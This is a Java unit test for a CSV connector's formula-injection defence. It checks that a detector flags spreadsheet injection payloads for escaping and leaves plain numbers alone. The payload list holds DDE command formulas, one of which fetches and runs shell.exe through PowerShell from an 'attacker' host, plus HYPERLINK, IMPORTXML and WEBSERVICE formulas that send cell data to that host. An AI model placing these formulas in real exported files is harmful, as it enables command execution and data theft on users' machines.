package io.caravan.connectors.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * CSV injection payloads (OWASP's list and DDE variants): each is taken for a formula, so
 * {@code csv.write} escapes it with a leading {@code '}; plain and signed numbers are not.
 */
class FormulasInjectionTest {

    private static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://attacker/?leak=\"&A1, \"click\")",
            "=IMPORTXML(CONCAT(\"http://attacker/?v=\", A1), \"//a\")",
            "=WEBSERVICE(\"http://attacker/\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "\t=1+1",
            "\r=1+1",
            "=1+1",
            "@A1",
            "-A1",
            "+A1",
            "-1+1",
            "- 1");

    private static final List<String> NOT_FORMULAS = List.of("-10", "+7", "-3.5", "1e5", "-1.5E-3", "a=b", "",
            " =1+1", "plain");

    @Test
    void everyPayloadIsTakenForAFormulaAndNumbersAreNot() {
        assertThat(PAYLOADS).allSatisfy(p -> assertThat(Formulas.looksLikeOne(p)).as(p).isTrue());
        assertThat(NOT_FORMULAS).allSatisfy(p -> assertThat(Formulas.looksLikeOne(p)).as(p).isFalse());
        System.out.printf("csv injection: %d formula payloads escaped, %d plain values kept%n", PAYLOADS.size(),
                NOT_FORMULAS.size());
    }
}
